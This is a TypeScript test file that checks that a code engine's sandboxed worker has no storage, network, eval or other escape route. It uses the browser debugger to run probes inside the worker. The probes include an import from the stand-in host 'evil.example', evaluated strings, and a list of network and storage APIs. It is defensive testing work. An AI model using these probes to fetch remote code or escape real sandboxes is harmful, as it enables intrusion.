import { expect, test, type Stillroom } from "./stillroom.ts";

/** Evaluates in the realm of the engine's worker, as code would that has left the sandbox. */
type Escape = <Result>(code: () => Result | Promise<Result>) => Promise<Result>;

/** The worker that starts from a blob is the engine's; Monaco's do not. Its own `eval` is gone: the debugger speaks to it. */
async function escapeInto({ page }: Stillroom): Promise<Escape> {
  const debuggerOfPage = await page.context().newCDPSession(page);
  const sessionId = new Promise<string>((resolve) => {
    debuggerOfPage.on("Target.attachedToTarget", (event) => {
      if (event.targetInfo.type === "worker" && event.targetInfo.url.startsWith("blob:")) resolve(event.sessionId);
    });
  });
  await debuggerOfPage.send("Target.setAutoAttach", { autoAttach: true, waitForDebuggerOnStart: false });
  const session = await sessionId;
  let ids = 0;
  return async <Result>(code: () => Result | Promise<Result>) => {
    const id = ++ids;
    const answer = new Promise<string>((resolve) => {
      debuggerOfPage.on("Target.receivedMessageFromTarget", ({ message }) => {
        if ((JSON.parse(message) as { readonly id?: number }).id === id) resolve(message);
      });
    });
    const expression = `(${code.toString()})()`;
    const params = { expression, awaitPromise: true, returnByValue: true, allowUnsafeEvalBlockedByCSP: false };
    const message = JSON.stringify({ id, method: "Runtime.evaluate", params });
    await debuggerOfPage.send("Target.sendMessageToTarget", { sessionId: session, message });
    const { result } = JSON.parse(await answer) as {
      readonly result: { readonly result: { readonly value: Result }; readonly exceptionDetails?: unknown };
    };
    if (result.exceptionDetails !== undefined) throw new Error(JSON.stringify(result.exceptionDetails));
    return result.result.value;
  };
}

test("JavaScript in the worker's own realm finds no storage, network, other context or eval", async ({
  stillroom,
  page,
}) => {
  await stillroom.open();
  const sent: string[] = [];
  page.context().on("response", (response) => sent.push(response.url()));
  const origin = new URL(page.url()).origin;
  page.context().on("requestfailed", (request) => {
    if (request.failure()?.errorText !== "csp") sent.push(`${request.url()} ${request.failure()?.errorText}`);
  });
  const escape = await escapeInto(stillroom);
  const found = await escape(() => {
    const names = [
      "indexedDB caches cookieStore localStorage sessionStorage navigator storage StorageManager",
      "fetch Request XMLHttpRequest WebSocket WebSocketStream EventSource WebTransport importScripts FetchLaterResult",
      "Worker SharedWorker ServiceWorker BroadcastChannel MessageChannel MessagePort clients registration",
      "FileSystemHandle FileSystemSyncAccessHandle FileReaderSync showOpenFilePicker Notification PushManager",
      "GPU OffscreenCanvas RTCPeerConnection RTCDataChannel trustedTypes Function.prototype.nothing",
    ].flatMap((line) => line.split(" "));
    const reached: string[] = [];
    for (let object: object | null = globalThis; object !== null; object = Reflect.getPrototypeOf(object))
      reached.push(...names.filter((name) => Object.getOwnPropertyNames(object).includes(name)));
    const constructors = [globalThis.constructor, Reflect.getPrototypeOf(globalThis)?.constructor];
    return { reached, constructors: constructors.filter((made) => made !== undefined).map((made) => made.name) };
  });
  expect(found.reached).toEqual([]);

  // The debugger itself may evaluate text: what is tried is tried once its call has ended.
  const tried = await escape(async () => {
    await new Promise((resolve) => setTimeout(resolve, 0));
    const answers: Record<string, string> = {};
    const attempt = async (name: string, work: () => unknown): Promise<void> => {
      try {
        answers[name] = `reached ${typeof (await work())}`;
      } catch (error) {
        answers[name] = error instanceof Error ? error.name : "refused";
      }
    };
    const make = (async () => undefined).constructor as unknown as (text: string) => () => unknown;
    await attempt("Function", () => Reflect.construct(Function, ["return 1"]) as unknown);
    // The test is that there is none.
    // oxlint-disable-next-line no-eval
    await attempt("eval", () => eval("1") as unknown);
    await attempt("AsyncFunction", () => make("return 1")());
    await attempt("a text for a timer", async () => {
      const self = globalThis as unknown as { timed?: boolean; setTimeout(text: string): void };
      self.setTimeout("globalThis.timed = true");
      await new Promise((resolve) => setTimeout(resolve, 50));
      if (self.timed !== true) throw new EvalError("nothing ran");
    });
    await attempt("a module of text", () => import(`data:text/javascript,export default ${1}`));
    await attempt(
      "a module of a blob",
      () => import(URL.createObjectURL(new Blob(["export default 1"], { type: "text/javascript" }))),
    );
    await attempt("a module from elsewhere", () => import(`https://evil.example/${"x"}.js`));
    await attempt("a stream that is fetched", () => {
      const { compileStreaming } = WebAssembly as unknown as { compileStreaming(url: unknown): Promise<unknown> };
      return compileStreaming(new Response("x", { headers: { "content-type": "application/wasm" } }));
    });
    return answers;
  });
  expect(tried).toEqual({
    Function: "EvalError",
    eval: "ReferenceError",
    AsyncFunction: "EvalError",
    "a text for a timer": "EvalError",
    "a module of text": "TypeError",
    "a module of a blob": "TypeError",
    "a module from elsewhere": "TypeError",
    "a stream that is fetched": "CompileError",
  });
  expect(sent.filter((url) => !url.startsWith("blob:") && !url.startsWith(origin))).toEqual([]);
});
